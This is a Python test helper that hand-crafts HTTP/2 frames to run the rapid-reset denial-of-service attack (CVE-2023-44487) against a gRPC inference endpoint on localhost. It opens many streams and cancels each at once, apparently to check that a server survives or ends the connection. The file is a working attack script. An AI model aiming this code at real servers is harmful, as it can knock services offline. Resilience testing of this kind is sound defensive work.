"""As much of HTTP/2 as a rapid reset takes: streams that are opened and at once given up.

https://www.rfc-editor.org/rfc/rfc9113, https://www.cve.org/CVERecord?id=CVE-2023-44487
"""

from __future__ import annotations

import asyncio
from contextlib import suppress

from tests.live.watch import PATIENCE

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 1, 3, 4, 6, 7
END_HEADERS, ACK = 0x4, 0x1
CANCEL = (8).to_bytes(4, "big")
# Frames that are written before the other side must have taken some.
BURST = 100
CALL = {
    ":method": "POST",
    ":scheme": "http",
    ":path": "/inference.GRPCInferenceService/ModelStreamInfer",
    ":authority": "localhost",
    "te": "trailers",
    "content-type": "application/grpc",
}


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return (
        len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
    )


def fields(headers: dict[str, str]) -> bytes:
    """HPACK: each field literally, none remembered."""
    return b"".join(
        b"\0%c%b%c%b" % (len(name), name.encode(), len(value), value.encode())
        for name, value in headers.items()
    )


async def rapid_reset(port: int, count: int) -> None:
    """Open so many calls and reset each at once; returns when the server has read them all.

    A server may end the connection before: that is a defence too.
    """
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    head = fields(CALL)

    async def read_until_pong() -> None:
        while True:
            start = await reader.readexactly(9)
            await reader.readexactly(int.from_bytes(start[:3], "big"))
            kind, flags = start[3], start[4]
            if kind == SETTINGS and not flags & ACK:
                writer.write(frame(SETTINGS, ACK, 0))
            if kind == GOAWAY or (kind == PING and flags & ACK):
                return

    reading = asyncio.create_task(read_until_pong())
    with suppress(ConnectionError, asyncio.IncompleteReadError):
        async with asyncio.timeout(PATIENCE):
            writer.write(PREFACE + frame(SETTINGS, 0, 0))
            for index in range(count):
                stream = 2 * index + 1
                writer.write(frame(HEADERS, END_HEADERS, stream, head))
                writer.write(frame(RST_STREAM, 0, stream, CANCEL))
                if index % BURST == 0:
                    await writer.drain()
            writer.write(frame(PING, 0, 0, bytes(8)))
            await reading
    reading.cancel()
    writer.close()
    with suppress(ConnectionError):
        await writer.wait_closed()
